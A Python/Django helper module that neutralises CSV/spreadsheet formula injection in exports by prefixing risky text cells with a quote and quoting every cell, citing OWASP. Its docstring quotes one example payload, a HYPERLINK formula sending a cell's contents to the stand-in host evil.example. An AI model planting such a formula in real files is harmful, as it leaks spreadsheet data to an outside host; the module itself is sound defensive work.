"""Cells that a spreadsheet shows as text and never runs: CSV exports are formula-safe.

Excel, LibreOffice and Google Sheets read a cell that starts with = + - or @ as a formula
(and looks past a leading tab or carriage return for one), so a case titled
`=HYPERLINK("https://evil.example/?"&A1, "Öppna")` would become a live link that leaks the
sheet. OWASP's advice (https://owasp.org/www-community/attacks/CSV_Injection): prefix such a
cell with a single quote, so that it is shown as the text it is, and quote every cell, so
that no separator inside one (Swedish Excel splits on ";") starts another.

Numbers stay numbers when they are numbers (int, Decimal, float), never when they are text:
"-5" from a form is text like any other and is prefixed. Dates and None pass as they are.
"""

import csv

from django.utils.functional import Promise

FORMULA_STARTS = ("=", "+", "-", "@")
CONTROL_STARTS = ("\t", "\r")
# Every cell in quotes: a ";" or "," inside a cell cannot make a new cell, whatever separator
# the spreadsheet guesses.
QUOTING = csv.QUOTE_ALL


def formula_safe(value):
    """The value as a spreadsheet cell that can only ever be shown, never evaluated."""
    if isinstance(value, Promise):  # a lazily translated label is text like any other
        value = str(value)
    if not isinstance(value, str):
        # Numbers, dates and None are typed values, never formulas: an XLSX keeps them typed.
        return value
    # Leading spaces or line breaks hide a formula from a glance, not from every program.
    if value.startswith(CONTROL_STARTS) or value.lstrip().startswith(FORMULA_STARTS):
        return "'" + value
    return value


def formula_safe_row(row):
    """A list of cells, or a dict of them (for csv.DictWriter), with every cell made safe."""
    if isinstance(row, dict):
        return {key: formula_safe(value) for key, value in row.items()}
    return [formula_safe(value) for value in row]
